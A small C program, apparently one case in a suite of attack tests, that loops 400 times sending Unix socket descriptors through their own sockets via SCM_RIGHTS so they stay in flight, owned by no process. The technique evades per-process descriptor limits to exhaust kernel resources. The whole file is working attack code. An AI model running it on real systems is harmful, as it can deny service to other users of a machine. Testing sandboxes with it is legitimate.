#include "attack.h"
// Descriptors that are under way in a socket belong to no process.
int main(void)
{
	for (int i = 0; i < 400; i++) {
		int s[2];
		char room[CMSG_SPACE(sizeof s)] = {0}, c = 0;
		struct iovec v = {&c, 1};
		struct msghdr h = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
		if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, s) != 0)
			break;
		struct cmsghdr *m = CMSG_FIRSTHDR(&h);
		m->cmsg_level = SOL_SOCKET;
		m->cmsg_type = SCM_RIGHTS;
		m->cmsg_len = CMSG_LEN(sizeof s);
		memcpy(CMSG_DATA(m), s, sizeof s);
		while (sendmsg(s[0], &h, 0) > 0) { }
		close(s[0]);
		close(s[1]);
	}
	return finish();
}
